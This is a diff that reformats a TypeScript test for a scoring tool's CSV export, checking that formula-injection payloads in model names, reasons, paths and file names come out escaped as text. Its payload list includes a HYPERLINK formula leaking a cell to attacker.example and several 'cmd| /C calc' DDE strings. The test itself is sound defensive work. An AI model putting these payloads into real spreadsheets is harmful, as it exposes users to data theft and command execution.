@@ -14,11 +14,27 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += c;
   }
-  if (cell || row.length) { row.push(cell); rows.push(row); }
+  if (cell || row.length) {
+    row.push(cell);
+    rows.push(row);
+  }
   return rows;
 }
 
@@ -27,9 +43,9 @@ const evaluated = (cell: string) => /^(?:\s*[=+\-@]|[\t\r])/.test(cell) && !/^-?
 
 const PAYLOADS = [
   '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '  =1+1',
@@ -38,12 +54,35 @@ const PAYLOADS = [
 describe('the score CSV export with formulas in every field that comes from outside', () => {
   it('no cell opens as a formula; each payload is kept as text behind a quote', async () => {
     // Model names, reasons, raw answers, path tokens and the file's own name carry the payloads.
-    const file = { path: `${PAYLOADS[0]}.jsonl`, text: PAYLOADS.map((p, i) => JSON.stringify({
-      model: p, scene: 'HOUSE01', question: Q.hallToBedroom, agent: ['WHEELCHAIR', 'HUMANOID', 'HUMAN'][i % 3],
-      answer: i % 2 ? p : 'no', path: [p, 'hall', 'living'], reason: p,
-    })).join('\n') + '\n' };
-    const outcome = await runScoring({ mode: 'paper', project: scoringHouse(), input: { root: 'results', files: [file] },
-      settings: { judge: { kind: 'rule' }, weights: { f1: 0.25, pv: 0.25, rta: 0.25, rv: 0.25 }, averaging: 'micro', bootstrap: { resamples: 0, seed: 1, level: 0.95 } } }, predictionReaders);
+    const file = {
+      path: `${PAYLOADS[0]}.jsonl`,
+      text:
+        PAYLOADS.map((p, i) =>
+          JSON.stringify({
+            model: p,
+            scene: 'HOUSE01',
+            question: Q.hallToBedroom,
+            agent: ['WHEELCHAIR', 'HUMANOID', 'HUMAN'][i % 3],
+            answer: i % 2 ? p : 'no',
+            path: [p, 'hall', 'living'],
+            reason: p,
+          }),
+        ).join('\n') + '\n',
+    };
+    const outcome = await runScoring(
+      {
+        mode: 'paper',
+        project: scoringHouse(),
+        input: { root: 'results', files: [file] },
+        settings: {
+          judge: { kind: 'rule' },
+          weights: { f1: 0.25, pv: 0.25, rta: 0.25, rv: 0.25 },
+          averaging: 'micro',
+          bootstrap: { resamples: 0, seed: 1, level: 0.95 },
+        },
+      },
+      predictionReaders,
+    );
     const csv = reportFiles(outcome).csv;
     const rows = parseCsv(csv);
     expect(rows).toHaveLength(1 + PAYLOADS.length);
@@ -56,7 +95,7 @@ describe('the score CSV export with formulas in every field that comes from outs
     expect(new Set(col('model'))).toEqual(new Set(PAYLOADS.map((p) => `'${p.trim()}`)));
     expect(col('reason').sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
     expect(col('file')).toEqual(Array(PAYLOADS.length).fill(`'${file.path}`));
-    expect(col('path').every((p) => p!.startsWith('\''))).toBe(true);
+    expect(col('path').every((p) => p!.startsWith("'"))).toBe(true);
   });
 
   it('numbers we computed stay numbers, negative ones too; text that looks like a negative number is text', () => {
